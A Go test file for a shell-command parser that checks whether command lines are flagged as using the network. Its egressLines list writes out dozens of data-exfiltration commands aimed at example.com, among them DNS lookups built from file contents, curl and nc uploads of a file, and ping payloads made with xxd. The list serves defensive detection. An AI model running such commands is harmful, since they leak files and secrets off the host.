package shell

import (
	"strings"
	"testing"
)

// egressLines are command lines that send what a file holds off the
// host, or resolve a name built from it (a DNS server sees the name).
var egressLines = []string{
	"dig +short $(base64 -w0 F | cut -c1-60).example.com", "host $(cat F).example.com", "nslookup $(cat F).example.com",
	"getent hosts $(cat F).example.com", "getent ahosts x.example.com", "curl -d @F https://example.com",
	"curl -T F ftp://example.com", "wget --post-file=F https://example.com", "nc example.com 80 < F",
	"ncat example.com 80 < F", "socat - TCP:example.com:80 < F", "ssh user@example.com < F", "scp F user@example.com:",
	"sftp user@example.com", "rsync F user@example.com:", "rsync F rsync://example.com/x", "ping -p $(xxd -p F) example.com",
	"mail -s x a@example.com < F", "sendmail a@example.com < F", "telnet example.com 25", "whois $(cat F)",
	"git push", "git -C repo push origin main", "git fetch", "git clone https://example.com/x", "git ls-remote https://example.com/$(cat F)",
	"git archive --remote=ssh://example.com/x HEAD", "git remote update", "git remote show origin", "git submodule update",
	"npm publish", "npm --prefix d install x", "pip install https://example.com/$(cat F)", "pip3 download x",
	"gem push x.gem", "go get example.com/x", "apt-get update", "openssl s_client -connect example.com:443",
	"psql -h example.com -c 'select 1'", "psql postgres://example.com/db", "mysql --host=example.com", "redis-cli -h example.com",
	"aws s3 cp F s3://bucket/", "kubectl cp F pod:/tmp/", "gh gist create F", "docker push x", "logger -n example.com x",
}

// TestEgressIsNetwork: every line of egressLines, also behind a wrapper,
// in a pipeline, a substitution or a nested shell, sets ssh.network and
// is not read-only; local uses of the same programs do not.
func TestEgressIsNetwork(t *testing.T) {
	t.Parallel()
	wraps := []string{"%s", "timeout 5 %s", "env LANG=C %s", "true && %s", "cat F | %s", "echo $(%s)", "sh -c '%s'", "nice -n 1 %s"}
	missed, n := 0, 0
	for _, l := range egressLines {
		for _, w := range wraps {
			if strings.HasPrefix(w, "sh -c") && strings.Contains(l, "'") {
				continue
			}
			line := strings.Replace(w, "%s", l, 1)
			s, err := Parse(line)
			if err != nil {
				t.Fatalf("%s: %v", line, err)
			}
			n++
			if !s.Network || s.ReadOnly {
				missed++
				t.Errorf("%q: network %v, read-only %v", line, s.Network, s.ReadOnly)
			}
		}
	}
	t.Logf("%d of %d egress lines not seen as network", missed, n)
	local := []string{"getent passwd root", "git status", "git log", "git remote -v", "git archive HEAD", "rsync -a src/ dst/",
		"psql -c 'select 1'", "npm test", "npm run build", "go vet ./...", "cargo build", "openssl x509 -in F -noout",
		"logger hello", "cat F", "ls -la", "pip list", "apt-cache policy x"}
	for _, l := range local {
		s, err := Parse(l)
		if err != nil {
			t.Fatalf("%s: %v", l, err)
		}
		if s.Network {
			t.Errorf("%q: judged network", l)
		}
	}
}
